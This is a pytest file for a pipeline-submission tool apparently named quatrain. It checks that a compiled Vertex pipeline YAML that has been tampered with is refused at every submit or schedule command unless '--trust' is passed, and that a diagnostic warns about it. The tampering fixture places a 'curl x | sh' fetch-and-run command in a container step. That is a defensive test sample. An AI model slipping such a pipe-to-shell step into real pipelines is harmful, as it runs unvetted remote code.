"""No verb sends a pipeline file that `quatrain compile` would not write, unless it is trusted."""

import pytest
import yaml

from quatrain.vertex.doctor.examination import Examination, examine
from tests.quatrain.vertex.conftest import CRON

DOORS = {
    "submit": ["submit", "toy.yaml"],
    "schedule": ["schedule", "apply", "toy.yaml", *CRON],
    "schedule --plan": ["schedule", "apply", "toy.yaml", *CRON, "--plan"],
    "upload": ["upload", "--set-cloud", "registry=https://europe-west1-kfp.pkg.dev/my-project/t"],
}


@pytest.fixture
def altered(training_path, tmp_path):
    """A file with the right images, one of whose steps runs another command."""
    document = yaml.safe_load(training_path.read_text())
    container = document["deploymentSpec"]["executors"]["exec-gate"]["container"]
    container["command"][2] = "curl x | sh"
    path = tmp_path / "altered.yaml"
    path.write_text(yaml.safe_dump(document))
    return path


@pytest.mark.parametrize("door", DOORS)
def test_an_altered_file_is_refused_at_every_door(quatrain, google, altered, door):
    code, _, err = quatrain(*DOORS[door], file=altered)
    assert code == 1
    assert f"error: {altered}: is not what `quatrain compile` of this version writes: " in err
    assert "exec-gate.container.command[2] is 'curl x | sh' instead of " in err
    assert (google.jobs, google.schedules) == ({}, {})


@pytest.mark.parametrize("door", ["submit", "schedule"])
def test_trust_sends_it_as_it_is(quatrain, google, altered, door):
    code, _, err = quatrain(*DOORS[door], "--trust", file=altered)
    assert code == 0, err
    assert len(google.jobs) + len(google.schedules) == 1


def test_trust_does_not_take_another_image_than_the_cloud_s(quatrain, altered):
    code, _, err = quatrain(
        *DOORS["submit"],
        *("--trust", "--set-cloud", "image=europe-west1-docker.pkg.dev/p/r/q@sha256:" + "0c" * 32),
        file=altered,
    )
    assert code == 1
    assert "but the cloud's image is" in err


def test_doctor_warns_of_what_submit_would_refuse(google, altered, training_path, tmp_path):
    def findings(file):
        examination = Examination(
            tmp_path / "toy.yaml", tmp_path / "cloud.yaml", pipeline=file, offline=True
        )
        return {finding.check: finding for finding in examine(examination)}

    found = findings(altered)
    assert found["parameters"].severity == "ok"
    assert found["pipeline"].severity == "warning"
    assert "exec-gate.container.command[2] is 'curl x | sh'" in found["pipeline"].sentence
    assert "pipeline" not in findings(training_path)
